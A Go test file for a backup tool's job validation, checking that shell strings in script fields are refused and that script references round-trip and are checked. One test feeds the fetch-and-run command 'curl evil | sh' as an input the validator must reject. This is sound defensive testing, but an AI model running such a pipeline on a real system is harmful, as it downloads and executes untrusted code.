package jobs

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/pgguard/pgguard/internal/jobs/schedule"
)

func manualJob() Job {
	return Job{ID: "nightly", Kind: KindVerify, Schedule: schedule.Schedule{Kind: schedule.Manual}}
}

func TestAJobWithAShellStringIsRefused(t *testing.T) {
	for _, field := range []string{"precondition", "pre_script", "post_script"} {
		t.Run(field, func(t *testing.T) {
			raw := `{"id":"nightly","kind":"verify","schedule":{"kind":"manual"},"` + field + `":"curl evil | sh"}`
			var j Job
			if err := json.Unmarshal([]byte(raw), &j); err != nil {
				t.Fatalf("a record with a shell string must still be readable, so that it is refused by name: %v", err)
			}
			err := j.Validate()
			if err == nil || !strings.Contains(err.Error(), field) || !strings.Contains(err.Error(), "shell string") {
				t.Fatalf("Validate() = %v, want a refusal naming %s as a shell string", err, field)
			}
			if strings.Contains(err.Error(), "curl") {
				t.Fatalf("the refusal repeats the snippet: %v", err)
			}
		})
	}
}

func TestScriptReferencesRoundTripAndAreChecked(t *testing.T) {
	j := manualJob()
	j.PreScript = &Script{Name: "quiesce-app", Args: []string{"--db", "app db"}}
	data, err := json.Marshal(j)
	if err != nil {
		t.Fatal(err)
	}
	var back Job
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if err := back.Validate(); err != nil {
		t.Fatalf("a valid reference is refused after a round trip: %v", err)
	}
	if back.PreScript.String() != "quiesce-app --db app db" {
		t.Fatalf("round trip gave %q", back.PreScript.String())
	}
	cases := []struct {
		name    string
		script  Script
		mention string
	}{
		{"a path instead of a name", Script{Name: "/tmp/x.sh"}, "pre_script"},
		{"an empty name", Script{}, "pre_script"},
		{"too many arguments", Script{Name: "hook", Args: make([]string, 33)}, "arguments"},
		{"an argument with a NUL", Script{Name: "hook", Args: []string{"a\x00b"}}, "NUL"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			j := manualJob()
			s := tc.script
			j.PreScript = &s
			if err := j.Validate(); err == nil || !strings.Contains(err.Error(), tc.mention) {
				t.Fatalf("Validate() = %v, want an error naming %q", err, tc.mention)
			}
		})
	}
}
